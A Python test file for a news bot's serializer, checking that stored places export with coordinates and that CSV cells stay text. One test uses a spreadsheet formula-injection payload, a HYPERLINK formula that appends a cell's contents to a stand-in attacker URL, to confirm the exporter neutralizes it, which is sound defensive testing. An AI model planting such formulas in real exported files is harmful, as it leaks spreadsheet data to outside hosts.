"""JSON and CSV as scripts and spreadsheets read them: stored places with coordinates, CSV
cells that stay text."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from bot.present import serialize
from bot.records import Casualties, Place, StoredEvent, StoredPlace, Story
from tests.support.records import stored_article

VILLAGE = StoredPlace("unlisted:gn:1/qaryat", "Qaryat", "village", "SY", "Qaryat")
TOWN = Place("gn:1", "Townsville", "city", "SY", "Syria", 1, 5000, 35.5, 40.25)


def locate(key: str) -> Place | None:
    """The gazetteer of these tests: a village it does not list lies in its town."""
    return TOWN if key in ("gn:1", VILLAGE.key) else None


def test_a_stored_place_has_the_keys_and_coordinates_analyze_gives_a_place() -> None:
    town = StoredPlace("gn:1", "Townsville", "city", "SY", "Townsville", 1)
    assert serialize.stored_place_dict(town, locate) == {
        "key": "gn:1",
        "name": "Townsville",
        "kind": "city",
        "country_code": "SY",
        "country": "Syria",
        "as_written": "Townsville",
        "geonameid": 1,
        "lat": 35.5,
        "lon": 40.25,
        "approximate": False,
    }
    village = serialize.stored_place_dict(VILLAGE, locate)
    assert (village["lat"], village["lon"], village["approximate"]) == (35.5, 40.25, True)
    unknown = StoredPlace("gn:2", "Nowhere", "city", "SY", "Nowhere", 2)
    gone = serialize.stored_place_dict(unknown, locate)
    assert (gone["lat"], gone["lon"], gone["country"]) == (None, None, None)


def test_csv_cells_stay_text_in_a_spreadsheet_and_read_back_whole() -> None:
    event = StoredEvent("Battles", "Armed clash", Casualties(3, True), Casualties(), place=VILLAGE)
    article = stored_article('=HYPERLINK("http://x.example/?"&A1,"Read")', [VILLAGE], event=event)
    summary = 'Clashes, then shelling;\nقتل ثلاثة مدنيين في "القرية".'
    story = Story.alone(replace(article, summary=summary))
    text = serialize.to_csv(serialize.export_rows([story], locate))
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["title"].startswith("'=HYPERLINK("), "a formula in a feed's title is no formula"
    assert row["summary"] == summary, "commas, a newline, quotes and Arabic read back whole"
    assert (row["is_conflict"], row["killed"], row["killed_exact"]) == ("true", "3", "true")
    assert (row["injured"], row["injured_exact"], row["injured_outlet"]) == ("", "", "")
    assert (row["event_type"], row["sub_event_type"], row["event_place"]) == (
        "Battles",
        "Armed clash",
        "Qaryat",
    )
    assert (row["event_place_lat"], row["event_place_lon"]) == ("35.5", "40.25")
